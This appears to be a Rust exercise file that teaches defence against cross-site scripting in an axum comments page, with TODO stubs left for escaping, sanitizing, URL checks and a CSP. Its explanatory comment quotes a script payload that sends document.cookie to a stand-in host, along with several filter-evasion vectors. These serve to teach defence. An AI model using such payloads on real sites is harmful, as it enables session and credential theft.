//! # XSS: what a user types comes back as text, whatever it contains
//!
//! A comments page shows what strangers typed to everyone who opens it. If the name "Eve" is
//! really `<script>fetch('https://evil.example/?c=' + document.cookie)</script>`, and the page
//! pastes it into its HTML as it is, the browser of every reader runs Eve's script, **as the
//! site**: it reads what the reader sees, sends requests with their session, rewrites the page
//! into a fake login form. That is **cross-site scripting** (XSS, OWASP Top 10 "Injection"):
//! *stored* when the payload sits in the database (this page), *reflected* when a response
//! echoes what the request carried (an error page that repeats the input, below).
//!
//! **1. Escape on output, for the context.** In HTML text and in quoted attribute values, five
//! characters are markup: `&` `<` `>` `"` `'`. Written as `&amp;` `&lt;` `&gt;` `&quot;`
//! `&#39;` they are shown, never parsed. All five, `'` too: in `<input value='{name}'>` the
//! name `' autofocus onfocus='alert(1)` closes the value and adds an event handler, and many
//! hand-written escapers forget that quote. Escaping makes text safe *there*, in text and in
//! quoted attributes; never put user input in an unquoted attribute, inside `<script>` or
//! `<style>`, or in an `on…=` handler, where other characters are markup.
//!
//! **2. Let the template engine do it.** [askama] compiles templates into Rust at build time
//! and, for `ext = "html"`, escapes every `{{ value }}` with exactly those five rules. You opt
//! out with `{{ value|safe }}`, and only for HTML you made safe yourself. A page built by hand
//! with `format!` has no such default: there, you call your `escape_html` on every value.
//!
//! **3. Rich text is sanitized, not escaped.** Comments may use a little HTML (`<b>`, links,
//! lists). Escaping would show the tags; stripping them with a regex or a deny-list loses to
//! `<scr<script>ipt>`, `<IMG SRC=JaVaScRiPt:…>` and parser tricks ("mutation XSS"). A sanitizer
//! parses the HTML with a browser's parser and keeps only what an **allow-list** names:
//! [ammonia] (html5ever, the parser of Servo) with its [`Builder`][builder]. Its output is
//! safe HTML, the one thing rendered with `|safe`.
//!
//! **4. URLs are checked by scheme, after parsing.** `href="javascript:alert(1)"` holds no
//! character to escape, and runs when clicked; so does `data:text/html,…`. Browsers are
//! generous: the scheme is case-insensitive (`JaVaScRiPt:`), tabs and newlines inside a URL
//! are dropped (`java\tscript:`), leading spaces trimmed. A check such as
//! `!url.starts_with("javascript:")` misses all of that; parse with the URL standard's parser
//! ([`ammonia::Url`][url], the `url` crate, which reads URLs as browsers do), accept an allow-list
//! of schemes (`http`, `https`), and store the parser's serialization, so the link you show is
//! the one you checked.
//!
//! **5. A Content Security Policy in case one escape is missed.** The response header
//! `Content-Security-Policy` tells the browser what the page may load and run. This one:
//! `default-src 'self'` (everything only from this origin), `script-src 'self'` (scripts only
//! from this origin's files: no inline `<script>`, no `onclick=`, no `javascript:` URL runs),
//! `object-src 'none'` (no plugins), `base-uri 'none'` (an injected `<base>` cannot redirect
//! the page's relative URLs) and `frame-ancestors 'none'` (no site may frame the page to trick
//! clicks). Never `'unsafe-inline'` in `script-src`: it lets every injected script run again.
//! A page that needs inline scripts gives each a per-response nonce (`'nonce-…'`) instead.
//!
//! In production: a template engine that escapes by default (askama, minijinja, tera, maud),
//! ammonia for user HTML (or Markdown rendered by `pulldown-cmark`, then sanitized), cookies
//! `HttpOnly` so a script that slips through cannot read the session, and a CSP with
//! `report-to`, so browsers report what it blocked.
//!
//! - askama 0.16.1: <https://docs.rs/askama/0.16.1/askama/>, and its book (template syntax,
//!   escaping, `|safe`): <https://askama.rs/>
//! - ammonia 4.2.5: <https://docs.rs/ammonia/4.2.5/ammonia/struct.Builder.html>
//! - url 2.5.8 (re-exported by ammonia): <https://docs.rs/url/2.5.8/url/struct.Url.html>
//! - axum 0.8.9 forms and HTML: <https://docs.rs/axum/0.8.9/axum/struct.Form.html>,
//!   <https://docs.rs/axum/0.8.9/axum/response/struct.Html.html>
//! - tower-http 0.7.1: <https://docs.rs/tower-http/0.7.1/tower_http/set_header/index.html>
//! - OWASP: <https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html>,
//!   <https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html>
//! - MDN on CSP: <https://developer.mozilla.org/en-US/docs/Web/HTTP/Guides/CSP>
//!
//! The tests post real payloads (script tags, event handlers, `javascript:` URLs in disguise,
//! attribute breakouts, a polyglot) and read every page as a browser's tokenizer does: each
//! must come back as text, or sanitized, and none may answer with a 500.
//!
//! Your task: `CONTENT_SECURITY_POLICY`, the page's template, `escape_html`, `form_page`,
//! `sanitize_body`, `checked_website`, and the app with its two handlers.
//!
//! Run `cargo xtask check 02_xss` to check your work; `cargo xtask hint 02_xss` gives a hint.
//!
//! [askama]: https://docs.rs/askama/0.16.1/askama/
//! [ammonia]: https://docs.rs/ammonia/4.2.5/ammonia/
//! [builder]: https://docs.rs/ammonia/4.2.5/ammonia/struct.Builder.html
//! [url]: https://docs.rs/url/2.5.8/url/struct.Url.html

use std::sync::{Arc, Mutex};

use ammonia::{Builder, Url, UrlRelative};
use askama::Template;
use axum::Router;
use axum::extract::{Form, State};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::get;
use serde::Deserialize;
use tower_http::set_header::SetResponseHeaderLayer;

/// The `Content-Security-Policy` of every response.
// TODO: the five directives of the lesson, separated by "; ": `default-src` and `script-src`
// only `'self'`; `object-src`, `base-uri` and `frame-ancestors` `'none'`.
pub const CONTENT_SECURITY_POLICY: &str = "";

/// What the form page says when the website is refused.
pub const WEBSITE_ERROR: &str = "The website must be an address starting with http:// or https://.";

/// The `rel` of every link a user gave: the page it opens gets no handle on this one
/// (`noopener`) and no `Referer` (`noreferrer`).
pub const LINK_REL: &str = "noopener noreferrer";

/// A comment as stored: the author's name as typed, their website as the URL parser wrote it
/// (checked: http or https), and the body's HTML as the sanitizer left it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Comment {
    pub author: String,
    pub website: Option<String>,
    pub body_html: String,
}

/// The comments, newest last: the app's state.
pub type Comments = Arc<Mutex<Vec<Comment>>>;

/// The fields of the comment form, as the browser sends them.
#[derive(Debug, Clone, Deserialize)]
pub struct NewComment {
    pub author: String,
    pub website: String,
    pub body: String,
}

/// `GET /comments`: an HTML page (`<!doctype html>`, `<meta charset="utf-8">`, a `<title>`)
/// with, for each comment in order, one `<li>` holding:
///
/// - `<p title='{author}'>`, whose content is the author's name, as a link
///   `<a href="{website}" rel="{link_rel}">{author}</a>` when they gave a website;
/// - `<div>{body_html}</div>`, the sanitized body: the one value rendered with `|safe`;
///
/// and, after the list, the form that posts a comment:
///
/// ```html
/// <form method="post" action="/comments">
/// <input name="author"> <input name="website"> <textarea name="body"></textarea>
/// <button>Post</button>
/// </form>
/// ```
///
/// askama's syntax: `{% for comment in comments %}…{% endfor %}`,
/// `{% if let Some(website) = comment.website %}…{% else %}…{% endif %}`.
#[derive(Template)]
// TODO: the page's template, in `source` (a raw string, `r#"…"#`, keeps the quotes simple).
#[template(ext = "html", source = "TODO: the comments page")]
pub struct CommentsPage<'a> {
    pub comments: &'a [Comment],
    pub link_rel: &'a str,
}

/// `text` made safe for HTML text and for attribute values in either quotes: `&`, `<`, `>`,
/// `"` and `'` become `&amp;`, `&lt;`, `&gt;`, `&quot;` and `&#39;`; nothing else changes.
pub fn escape_html(text: &str) -> String {
    // TODO: one pass over the characters, pushing each (or its escape) onto a String.
    todo!("escape the five characters of {text:?}")
}

/// The form again, filled with what was sent, under an error message, built by hand with
/// `format!`: each of the four values through [`escape_html`]. Exactly this markup:
///
/// ```html
/// <!doctype html>
/// <html lang='en'>
/// <head><meta charset='utf-8'><title>Comment not saved</title></head>
/// <body>
/// <p class='error'>{error}</p>
/// <form method='post' action='/comments'>
/// <input name='author' value='{author}'>
/// <input name='website' value='{website}'>
/// <textarea name='body'>{body}</textarea>
/// <button>Post</button>
/// </form>
/// </body>
/// </html>
/// ```
pub fn form_page(error: &str, author: &str, website: &str, body: &str) -> String {
    // TODO: escape, then `format!` the page above.
    todo!("the form page for {author:?}: {error}")
}

/// A comment body in limited rich text, sanitized: only `a b br em i li p strong ul` stay,
/// links keep only an absolute `http`/`https` `href` and get `rel` [`LINK_REL`]; every other
/// attribute goes, `<script>` and `<style>` go with their contents.
pub fn sanitize_body(html: &str) -> String {
    // TODO: an ammonia `Builder` (`Builder::default()` already drops script and style with
    // their contents): `tags`, `generic_attributes`, `tag_attributes`, `url_schemes`,
    // `url_relative` and `link_rel`, then `.clean(html).to_string()`.
    todo!("sanitize {html:?}")
}

/// The website as the URL parser serializes it if it is an absolute `http` or `https` URL,
/// `None` for anything else (`javascript:`, `data:`, a relative path, not a URL at all).
pub fn checked_website(input: &str) -> Option<String> {
    // TODO: `Url::parse`, then an allow-list of schemes; `String::from(url)` serializes it.
    todo!("check the website {input:?}")
}

/// The app: `GET /comments` ([`list_comments`]) and `POST /comments` ([`post_comment`]) on a
/// fresh, empty [`Comments`]; every response, errors included, carries
/// [`CONTENT_SECURITY_POLICY`].
pub fn app() -> Router {
    // TODO: the routes, `.with_state(...)`, and a `SetResponseHeaderLayer::overriding` for
    // `header::CONTENT_SECURITY_POLICY` around everything.
    todo!("the comments app")
}

/// `GET /comments`: [`CommentsPage`] rendered, as `text/html; charset=utf-8` (axum's `Html`).
pub async fn list_comments(State(comments): State<Comments>) -> Response {
    // TODO: render the template with a copy of the comments; a render error is logged
    // (`tracing::error!`) and answered with a 500 that says nothing of it.
    todo!("render the comments page")
}

/// `POST /comments` (a form): an empty website (after trimming) is none; one that is given
/// but refused by [`checked_website`] stores nothing and answers 422 with [`form_page`] and
/// [`WEBSITE_ERROR`]. Otherwise the comment is stored, its body through [`sanitize_body`],
/// and the answer is a 303 See Other to `/comments`.
pub async fn post_comment(
    State(comments): State<Comments>,
    Form(new): Form<NewComment>,
) -> Response {
    // TODO: check the website, sanitize the body, push the comment, redirect.
    todo!("store the comment of {:?}", new.author)
}
